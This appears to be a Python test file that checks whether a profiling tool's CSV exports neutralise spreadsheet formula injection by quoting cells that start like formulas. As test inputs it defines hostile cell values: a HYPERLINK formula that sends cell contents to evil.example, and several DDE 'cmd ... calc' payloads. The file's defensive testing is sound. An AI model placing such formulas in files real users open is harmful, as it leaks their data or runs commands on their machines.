"""CSV formula injection (issue 29): no CSV tbd writes holds a text cell a spreadsheet would run.

Every CSV writer (`tbd kernels --csv`, `tbd report --csv` of a profile, a sweep, a comparison, a
time-to-accuracy result) is fed names that start like formulas, and every cell of its output is checked
by `_runnable` below, written here apart from tbd's code: a cell a spreadsheet runs starts with `=`,
`+`, `-`, `@`, TAB or CR (OWASP "CSV Injection") and is not a plain number. The hostile names must
come back with a leading `'` (shown as text, nothing lost), and negative numbers must stay numbers.
"""

from __future__ import annotations

import csv
import io
from dataclasses import replace

import pytest
from test_figures import sample_comparison, sample_sweep
from test_reports import cpu_profile, cuda_profile
from testpaths import FIXTURES

from tbd.cli.tta_analysis import analyse
from tbd.reports.comparison_text import comparison_csv
from tbd.reports.csv_cells import safe_cell
from tbd.reports.kernels.export import kernels_csv
from tbd.reports.profile_export import profile_csv
from tbd.reports.sweep_table import sweep_csv
from tbd.reports.tta_text import tta_csv

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
DDE = "=cmd|' /C calc'!A0"
HOSTILE = (HYPERLINK, DDE, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "\t=1+1", "\r=1+1", "  =1+1")


def _runnable(cell: str) -> bool:
    """Whether a spreadsheet would read `cell` as a formula: its first non-space character starts one and the cell
    is not a number."""
    head = cell.lstrip(" ")[:1]
    if head not in ("=", "+", "-", "@", "\t", "\r"):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _assert_inert(text: str, hostile: tuple[str, ...]) -> list[list[str]]:
    rows = _cells(text)
    live = [c for r in rows for c in r if _runnable(c)]
    assert live == []
    flat = {c for r in rows for c in r}
    for name in hostile:  # kept, as text (a CR as its escape, so the cell no longer starts like a formula)
        assert ("'" + name if not name.startswith("\r") else name.replace("\r", "\\r")) in flat, name
    return rows


@pytest.mark.parametrize(("cell", "written"), [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"), ("\r=1", "\\r=1"), ("a\x00\x1b[2J\nb", "a\\x00\\x1b[2J\\nb"),
    ("  =1", "'  =1"), ("\uff1d1+1", "'\uff1d1+1"),
    ("-1.5", "-1.5"), ("+2", "+2"), ("-3e-05", "-3e-05"), ("-inf", "'-inf"), (float("-inf"), "'-inf"), ("1e+300", "1e+300"), ("-0.0", "-0.0"),
    ("aten::add_", "aten::add_"), ("a=b", "a=b"), ("", ""), (None, None), (-4, -4), (-0.25, "-0.25"), (True, True),
])
def test_a_text_starting_like_a_formula_gets_a_quote_and_a_number_never(cell, written):
    assert safe_cell(cell) == written


def test_kernels_csv_writes_a_hyperlink_name_as_text():
    base = cuda_profile().kernels[0]
    rows = [replace(base, name=name, precision="-fp32", ops=[{"name": "@op", "shapes": "=shape"}],
                    ncu={"command": "+ncu"}) for name in HOSTILE]
    rows.append(replace(base, name="plain", recoverable_s=-0.5))  # a negative figure stays a number
    out = _assert_inert(kernels_csv(rows), (*HOSTILE, "-fp32", "@op", "=shape", "+ncu"))
    header = out[0]
    assert out[-1][header.index("recoverable_s")] == "-0.5"
    assert out[1][header.index("name")] == "'" + HYPERLINK


def test_profile_csv_quotes_a_unit_and_a_reason():
    p = cpu_profile()
    m = p.metrics
    metrics = replace(m, throughput=replace(m.throughput, unit=DDE),
                      memory_bytes=replace(m.memory_bytes, reasons={**m.memory_bytes.reasons, "weights": HYPERLINK}))
    rows = _assert_inert(profile_csv(replace(p, metrics=metrics)), (DDE,))
    assert any(r[0] == "memory_bytes.weights" for r in rows)


def test_sweep_csv_quotes_a_reason_and_a_unit():
    sweep = sample_sweep()
    points = [replace(pt, reason=HYPERLINK, throughput_unit=DDE) for pt in sweep.points]
    _assert_inert(sweep_csv(replace(sweep, points=points)), (HYPERLINK, DDE))


def test_comparison_csv_quotes_op_names_and_labels_but_keeps_negative_deltas():
    c = sample_comparison()
    runs = [replace(r, name=DDE) for r in c.runs]
    ops = [replace(o, op=HYPERLINK if i == 0 else o.op) for i, o in enumerate(c.ops)]
    rows = _assert_inert(comparison_csv(replace(c, runs=runs, ops=ops)), (HYPERLINK, DDE))
    header = rows[0]
    first_op_b = next(r for r in rows if r[0] == "op" and r[header.index("run")] == "B")
    # sample_comparison: aten::convolution_backward went from 31.0 ms (A) to 13.0 ms (B) per iteration.
    assert first_op_b[header.index("key")] == "'" + HYPERLINK
    assert float(first_op_b[header.index("delta_s")]) == pytest.approx(0.0130 - 0.0310)
    assert first_op_b[header.index("delta_s")].startswith("-0.018")  # a negative number, not quoted


def test_tta_csv_quotes_system_labels_and_problem_paths():
    result = analyse([str(FIXTURES / "dawnbench")])
    tables = [replace(t, benchmark=HYPERLINK, systems=[replace(s, label=DDE) for s in t.systems])
              for t in result.tables]
    _assert_inert(tta_csv(replace(result, tables=tables)), (HYPERLINK, DDE))
